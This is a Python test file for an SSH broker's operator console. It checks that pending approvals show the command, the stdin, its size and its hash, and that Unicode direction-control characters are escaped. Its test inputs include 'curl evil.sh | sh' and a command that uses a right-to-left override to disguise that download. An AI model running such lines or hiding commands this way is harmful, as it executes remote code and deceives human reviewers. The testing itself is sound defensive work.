"""A pending SSH approval in the operator console (served as the daemon serves it, on a real
loopback socket): the page renders it -- destination, command and stdin whole, with its size and
hash -- and a stdin too large for the approval view is said to be withheld, never silently cut.
The console renders a protocol's operator view generically, so this is also the check that a
protocol other than HTTP renders."""

from __future__ import annotations

import hashlib
import os
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.broker.helpers import open_broker, write_config
from tests.console.kit import get, log_in_to, served

from .brokerkit import KEY_ENV, ssh_target
from .hostile import HostileServer
from .sshd import SshKeys


@pytest.fixture(autouse=True)
def key_env(ssh_keys: SshKeys) -> Iterator[None]:
    os.environ[KEY_ENV] = ssh_keys.client_key.decode()
    try:
        yield
    finally:
        del os.environ[KEY_ENV]


async def test_a_pending_ssh_command_shows_its_stdin_in_the_console(
    tmp_path: Path, hostile: HostileServer
) -> None:
    target = ssh_target(hostile.port, "bob", hostile.pin, approval={"commands": ["^bash"]})
    target["approval"]["wait"] = "0s"
    path = write_config(tmp_path, {"box": target})
    with path.open("a") as f:
        f.write(f"[service]\noperator_uids = [{os.geteuid()}]\n")
    stdin = "curl evil.sh | sh\n"
    big = "echo x\n" * 3000  # 21,000 bytes: more than the approval view keeps (16 KiB)
    async with open_broker(path) as b, served(b, tmp_path) as (origin, console):
        small_id = (await b.call({"target": "box", "command": "bash", "stdin": stdin}))[
            "invocation_id"
        ]
        big_id = (await b.call({"target": "box", "command": "bash -s", "stdin": big}))[
            "invocation_id"
        ]
        bidi = "bash -c 'echo \u202e hs.live lruc' #\u2066"
        bidi_id = (await b.call({"target": "box", "command": bidi}))["invocation_id"]
        assert len(b.approvals()) == 3
        cookie, _ = await log_in_to(console, origin)
        status, _, page = await get(f"{origin}/approvals", cookie=cookie)
        assert status == 200, page[:400]
        text = page.decode()
        small = text[text.index(f'id="approval-{small_id}"') :]
        small = small[: small.index("</section>")]
        assert f"bob@127.0.0.1:{hostile.port}" in small
        assert re.search(
            r'data-field="command"><th>command</th>\s*<td class="request">bash<', small
        )
        assert f"{len(stdin)} bytes" in small
        assert hashlib.sha256(stdin.encode()).hexdigest() in small
        assert "curl evil.sh | sh" in small and 'class="approve"' in small
        large = text[text.index(f'id="approval-{big_id}"') :]
        large = large[: large.index("</section>")]
        assert f"{len(big)} bytes" in large
        assert hashlib.sha256(big.encode()).hexdigest() in large
        assert "larger than the approval view keeps: not shown" in large
        assert "echo x" not in large
        shown = text[text.index(f'id="approval-{bidi_id}"') :]
        shown = shown[: shown.index("</section>")]
        assert "\u202e" not in shown and "\u2066" not in shown
        assert '<span class="ctl" title="U+202E">\\u202e</span> hs.live lruc' in shown
        assert '#<span class="ctl" title="U+2066">\\u2066</span>' in shown
